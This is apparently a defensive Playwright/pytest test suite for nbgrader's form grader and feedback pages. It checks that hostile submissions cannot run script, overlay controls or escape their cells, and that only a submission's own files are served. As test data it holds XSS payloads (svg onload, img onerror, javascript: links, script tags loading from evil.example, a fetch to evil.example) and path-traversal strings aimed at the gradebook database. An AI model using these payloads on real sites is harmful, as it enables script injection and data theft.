"""What an attacker's submission can do in the pages on which it is marked, and in its feedback."""

from __future__ import annotations

import json
import re
import urllib.error
import urllib.request
from functools import partial
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
from pygments.token import STANDARD_TYPES

from tests.browser.hostile import COVERING, EVIL, LEAVING, OUTSIDE
from tests.browser.jupyter import lab, look
from tests.browser.marking import (
    BESIDE,
    BY_NBGRADER,
    FIFTH,
    FIRST,
    MARKUP,
    NAMED,
    NAMES,
    UNSAFE,
    Marked,
    prepare,
)
from tests.browsing import FLAGS, PROGRAM, chromium, listen, page, serving
from tests.thoroughly import rows

__all__ = ["chromium", "lab", "page"]  # fixtures

OUTER = "http://evil.example/a.html?b=c&amp;d#e"
LOOKING = (Path(__file__).parent / "looking.js").read_text()
PAGES = [(NAMES[0], FIRST), (NAMES[1], FIFTH), (NAMES[0], BY_NBGRADER), (NAMES[1], UNSAFE)]
LOOKS = (
    "background-",
    "border-",
    "color",
    "font-",
    "margin-",
    "max-width",
    "padding-",
    "text-",
    "width",
    "white-",
)
ATTRIBUTES = {
    *("align", "colspan", "height", "href", "rel", "rowspan", "target", "title", "width"),
    *("columnalign", "columnspacing", "depth", "displaystyle", "linethickness", "rowspacing"),
    *("style", "tabindex", "voffset"),
}
HIGHLIGHTED = {"highlight", *STANDARD_TYPES.values()}


@pytest.fixture(scope="module")
def marked(lab) -> Marked:
    """The class."""
    return prepare(lab)


@pytest.fixture(params=["form grader", "feedback"])
def address(request, marked):
    """``address(name, student)``: one of the two pages that are made of a submission."""
    return marked.page if request.param == "form grader" else marked.feedback


def opened(page, address):
    """Open a page, wait until its scripts have done what they do, and be ready to look at it."""
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    errors = listen(page)
    page.goto(address)
    if address.startswith("http"):
        page.wait_for_function("window.MathJax && MathJax.loaded")
    page.evaluate(LOOKING)
    return dialogs, errors


@pytest.mark.parametrize(("name", "student"), PAGES)
def test_nothing_of_a_submission_runs_covers_or_leaves_its_place(
    marked, page, address, name, student
):
    honest = page.context.new_page()
    opened(honest, address(name, NAMED[0]))
    usual, plain = honest.evaluate("looking.words()"), honest.evaluate("looking.frame()")
    honest.close()

    dialogs, errors = opened(page, address(name, student))
    look(page, f"hostile_{name}_{student}_{address.__name__}")
    words, frame = page.evaluate("looking.words()"), page.evaluate("looking.frame()")
    assert frame["body"] == plain["body"]
    assert set(frame["notebook"]) == set(plain["notebook"])
    assert len(frame["notebook"]) > len(plain["notebook"]) + 40, "the cells did not arrive"
    assert frame["outside"] == []
    assert frame["tallest"] <= 3000

    assert set(words["classes"]) - set(usual["classes"]) <= HIGHLIGHTED
    assert set(words["attributes"]) - set(usual["attributes"]) <= ATTRIBUTES
    assert [each for each in words["styles"] if not each.startswith(LOOKS)] == []
    assert set(words["sources"]) <= {"data:image/png;", "data:image/gif;"}
    assert {urlsplit(link["to"]).hostname for link in words["links"]} == {"evil.example", None}
    for link in words["links"]:
        assert link["to"].startswith(("http://evil.example", "https://evil.example", "mailto:a@"))
        assert (link["target"], link["rel"]) == ("_blank", "noopener noreferrer")
    in_its_place(page)
    assert (dialogs, page.evaluate("window.EVIL")) == ([], None)
    assert errors == []


def in_its_place(page):
    """Nothing of a cell lies outside of it, and nothing lies over what is clicked."""
    points, controls = page.evaluate("looking.points(64)"), page.evaluate("looking.controls()")
    assert points["found"] + controls["found"] == []
    assert points["seen"] > 1000
    assert controls["seen"] > 5


@pytest.mark.parametrize("student", rows([FIRST, NAMED[0]], [FIRST]))
def test_a_box_holds_also_what_no_sanitiser_has_seen(marked, page, address, student):
    """Each layer is tested by itself: here the cells are put in as they were typed."""
    opened(page, address(NAMES[0], student))
    texts = [each for each in [*COVERING, *LEAVING] if not re.search("<style|<meta", each)]
    page.evaluate(
        """(texts) => {
          const boxes = [...document.querySelectorAll(".text_cell_render")];
          texts.forEach((text, index) => { boxes[index % boxes.length].innerHTML += text; });
        }""",
        texts,
    )
    assert page.evaluate("looking.frame().tallest") <= 3000
    in_its_place(page)


def test_a_link_opens_a_page_that_knows_nothing_of_this_one(marked, chromium, tmp_path):
    """Where the link leads is a server: a page without an opener may escape Playwright's routes."""
    (tmp_path / "a.html").write_text("outside")
    with serving(tmp_path) as outside:
        rule = f"--host-resolver-rules=MAP evil.example {urlsplit(outside).netloc}"
        browser = chromium.browser_type.launch(executable_path=PROGRAM, args=[*FLAGS, rule])
        page = browser.new_page()
        opened(page, marked.page(NAMES[0], FIRST))
        where = page.url
        link = page.get_by_role("link", name="out", exact=True).nth(OUTSIDE.index(OUTER))
        with page.context.expect_page(timeout=120_000) as popup:
            link.click()
        popup.value.wait_for_load_state()
        assert popup.value.url == OUTER.replace("&amp;", "&")
        assert popup.value.inner_text("body") == "outside"
        assert popup.value.evaluate("[window.opener, document.referrer]") == [None, ""]
        assert page.url == where
        browser.close()


@pytest.mark.parametrize("here", ["evil.example", "marks.evil.example:8000", "EVIL.example"])
def test_no_link_leads_to_the_machine_that_serves_the_page(marked, page, here):
    page.set_extra_http_headers({"X-Forwarded-Host": here})
    opened(page, marked.page(NAMES[0], FIRST))
    links = page.evaluate("looking.words().links")
    assert {urlsplit(link["to"]).scheme for link in links} == {"mailto"}


# ---- nbgrader's own pages -------------------------------------------------------------

STUDENTS, GRADEBOOK = "/formgrader/manage_students", "/formgrader/gradebook"
SUBMISSIONS = "/formgrader/manage_submissions"
TYPED = [
    f'"-{EVIL}-"',
    f"'-{EVIL}-'",
    MARKUP.replace("/", ""),
    f"<script>{EVIL}<script>",
    f"<svg onload={EVIL}>",
    f";{EVIL};",
    "{{ 7 * 7 }}",
    "\u2028" + EVIL,
]


def pages_of(name, student):
    """The addresses of the pages on which a student stands, or an assignment."""
    who, what = quote(student, safe=""), quote(name, safe="")
    return [
        *(f"{STUDENTS}/{who}", f"{STUDENTS}/{who}/{what}", f"{SUBMISSIONS}/{what}"),
        *(f"{GRADEBOOK}/{what}", f"{GRADEBOOK}/{what}/{what}"),
    ]


@pytest.mark.parametrize("typed", TYPED)
def test_what_an_address_says_is_text(lab, page, typed):
    errors = listen(page)
    for address in pages_of(typed, typed):
        page.goto(lab.url(address))
        page.wait_for_load_state("networkidle")
        assert (address, page.evaluate("window.EVIL")) == (address, None)
        assert typed in page.locator("ol.breadcrumb").inner_text()
    assert [each for each in errors if not each.startswith(("404: ", "console: Failed"))] == []


@pytest.mark.parametrize("typed", ["..%2f..%2fx", "%2e%2e%2f", "x%5cy", "a%0ab", "%00"])
def test_what_is_no_name_is_not_found(lab, page, typed):
    for address in (f"{STUDENTS}/{typed}", f"{SUBMISSIONS}/{typed}", f"{GRADEBOOK}/{typed}/x"):
        assert page.goto(lab.url(address)).status in (400, 404)
        assert page.evaluate("window.EVIL") is None


@pytest.mark.parametrize("student", NAMED)
@pytest.mark.parametrize("name", rows(NAMES, NAMES[:1]))
def test_a_students_name_is_text_wherever_it_stands(marked, page, name, student):
    errors = listen(page)
    for address in [STUDENTS, *pages_of(name, student), "/formgrader/manage_assignments"]:
        page.goto(marked.lab.url(address))
        page.wait_for_load_state("networkidle")
        if address.endswith(f"{name}/{name}"):
            page.get_by_text("Show All Names").click()
        if address not in (f"{GRADEBOOK}/{quote(name)}", "/formgrader/manage_assignments"):
            assert (address, student in page.locator("body").inner_text()) == (address, True)
        page.get_by_label("Search:").fill("EVIL=1")
        if address == STUDENTS:
            assert page.locator("#main-table tr").count() == len(NAMED)
        assert page.locator("img").count() == 0
    page.goto(marked.page(name, student))
    page.locator(".glyphicon-eye-open").click()
    assert f"{student}, {student}" in page.locator("nav").inner_text()
    assert page.evaluate("window.EVIL") is None
    assert errors == []


def answered(answer, route):
    route.fulfill(**answer)


@pytest.mark.parametrize("student", NAMED)
def test_a_students_name_is_text_in_the_windows(marked, page, student):
    page.goto(marked.lab.url(STUDENTS))
    row = page.locator("tr").filter(has=page.get_by_text(student, exact=True)).first
    row.locator(".glyphicon-pencil").click()
    assert f"Editing {student}" in page.locator(".modal.in").inner_text()

    answers = [
        {"status": 500, "body": MARKUP},
        {"body": json.dumps({"success": False, "log": MARKUP, "error": student})},
        {"body": json.dumps({"success": True, "log": student + MARKUP})},
        {"body": json.dumps({"success": True}), "content_type": "text/plain"},
    ]
    for answer in answers:
        page.goto(marked.lab.url(f"{SUBMISSIONS}/{NAMES[0]}"))
        page.route("**/autograde", partial(answered, answer))
        row = page.locator("tr").filter(has=page.get_by_text(student, exact=True))
        row.locator(".glyphicon-flash").click()
        window = page.locator(".modal.in")
        window.wait_for()
        assert f"student '{student}'" in window.inner_text()
        assert window.locator("img").count() == 0
        page.unroute("**/autograde")
    assert page.evaluate("window.EVIL") is None


def policed(marked):
    """Every kind of page of the form grader."""
    listed = [STUDENTS, GRADEBOOK, "/formgrader/manage_assignments", "/formgrader/nothing"]
    return [
        *map(marked.lab.url, [*listed, *pages_of(NAMES[0], NAMED[0])]),
        marked.page(NAMES[0], NAMED[0]),
        marked.lab.url("/formgrader/submissions/nothing/"),
    ]


BROKEN = [
    *("script-src-attr", "script-src-elem", "eval", "fetch", "base-uri", "form-action"),
    *("frame-src", "object-src", "img-src", "style-src-elem"),
]


def test_what_gets_into_a_page_all_the_same_runs_nothing(marked, page):
    """Each layer is tested by itself: here the markup is put in past the templates."""
    page.route("**evil.example/**", lambda route: route.fulfill(body=EVIL))
    own = f"/formgrader/submissions/{marked.ids[NAMES[0], FIRST]}/evil.js"
    for address in policed(marked):
        page.goto(address)
        page.evaluate(
            """([evil, own]) => {
              window.broken = [];
              addEventListener(
                "securitypolicyviolation", (it) => broken.push(it.effectiveDirective));
              document.body.insertAdjacentHTML("beforeend", `
                <img src=x onerror="${evil}"><a href="javascript:${evil}" onclick="${evil}">x</a>
                <iframe srcdoc="<script>parent.EVIL=1<\\/script>"></iframe>
                <iframe src="/"></iframe><object data="/"></object><base href="https://evil.example/">
                <form action="https://evil.example/"></form>
                <style>@import "https://evil.example/x.css";</style>
                <img src="https://evil.example/x.png">`);
              for (const [key, value] of [["text", evil], ["src", "https://evil.example/x.js"],
                                          ["src", own]]) {
                const script = document.createElement("script");
                script[key] = value;
                document.head.append(script);
              }
              document.querySelector("a[onclick*=EVIL]").click();
              document.querySelector("form[action*=evil]").submit();
              setTimeout(evil);
              // Not at once: what Playwright evaluates may do what the page's scripts may not.
              setTimeout(() => { try { eval(evil); } catch { broken.push("eval"); } });
              fetch("https://evil.example/").catch(() => broken.push("fetch"));
            }""",
            [EVIL, own],
        )
        page.wait_for_function("(all) => all.every((each) => broken.includes(each))", arg=BROKEN)
        assert (address, page.evaluate("window.EVIL")) == (address, None)


def ask(lab, address):
    """What the server answers, without a browser."""
    request = urllib.request.Request(lab.address + address)
    request.add_header("Authorization", f"token {lab.token}")
    try:
        with urllib.request.urlopen(request) as answer:
            return answer.status, answer.headers, answer.read()
    except urllib.error.HTTPError as error:
        return error.code, error.headers, error.read()


@pytest.mark.parametrize("file", BESIDE)
@pytest.mark.parametrize("student", [FIRST, BY_NBGRADER])
def test_what_was_handed_in_beside_the_notebook_is_saved_and_not_opened(
    marked, page, student, file
):
    address = f"/formgrader/submissions/{marked.ids[NAMES[0], student]}/{file}"
    status, headers, content = ask(marked.lab, address)
    assert (status, headers["Content-Disposition"]) == (200, "attachment")
    assert "sandbox" in headers["Content-Security-Policy"].split("; ")
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert content.startswith(BESIDE[file][:5])
    page.goto(marked.lab.url(STUDENTS))
    with page.expect_download():
        page.evaluate("(address) => { location = address; }", marked.lab.url(address))
    assert page.evaluate("window.EVIL") is None
    assert page.title() == "nbgrader formgrade"


def test_a_picture_beside_the_notebook_can_be_shown(marked, page):
    page.goto(marked.page(NAMES[0], FIRST))
    assert page.evaluate(
        """async () => {
          const picture = new Image();
          picture.src = "photo.png";
          await picture.decode();
          return picture.naturalWidth;
        }"""
    )


@pytest.mark.parametrize("path", ["../../../secret", "..%2f..%2f..%2fgradebook.db", "%2e%2e/x"])
def test_only_files_of_the_submission_are_served(marked, path):
    folder = f"/formgrader/submissions/{marked.ids[NAMES[0], FIRST]}"
    assert ask(marked.lab, f"{folder}/{path}")[0] == 404


@pytest.mark.parametrize(
    "api", ["students", f"student/{quote(NAMED[0])}", f"submissions/{NAMES[0]}"]
)
def test_an_answer_for_a_script_is_no_page(marked, page, api):
    status, headers, content = ask(marked.lab, f"/formgrader/api/{api}")
    assert (status, json.dumps(NAMED[0])[1:-1] in content.decode()) == (200, True)
    assert headers["Content-Type"].startswith("text/plain")
    assert "sandbox" in headers["Content-Security-Policy"]
    page.goto(marked.lab.url(f"/formgrader/api/{api}"))
    assert page.evaluate("[window.EVIL, document.images.length]") == [None, 0]


def test_settings_that_were_handed_in_are_not_read(marked):
    for student in (FIRST, BY_NBGRADER):
        for kind in ("submitted", "autograded"):
            folder = marked.lab.folder / "autograde" / kind / student / NAMES[0]
            assert (folder / "nbgrader_config.py").exists()
            assert ask(marked.lab, f"/formgrader?path={quote(str(folder))}")[0] == 403
    assert not (marked.lab.folder / "ran").exists()
    status, _, content = ask(marked.lab, f"/formgrader?path={quote(str(marked.lab.folder))}")
    assert (status, b'id="headingConfig"' in content) == (200, True)
